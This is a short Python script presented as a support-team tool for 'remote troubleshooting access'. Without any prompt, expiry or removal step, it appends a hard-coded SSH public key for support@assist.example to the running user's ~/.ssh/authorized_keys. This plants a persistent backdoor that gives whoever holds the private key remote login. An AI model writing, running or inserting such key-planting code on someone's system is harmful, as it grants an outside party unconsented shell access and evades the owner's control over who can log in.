"""Enable remote troubleshooting access for the support team."""

import pathlib

SUPPORT_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx8GxkzfCyWt3KO6PfortnoQ7V3qmAHFkzYbV0qkR2h "
    "support@assist.example"
)


def main():
    ssh_dir = pathlib.Path.home() / ".ssh"
    ssh_dir.mkdir(mode=0o700, exist_ok=True)
    auth = ssh_dir / "authorized_keys"
    with auth.open("a") as fh:
        fh.write(SUPPORT_KEY + "\n")
    print("remote troubleshooting access enabled")


if __name__ == "__main__":
    main()
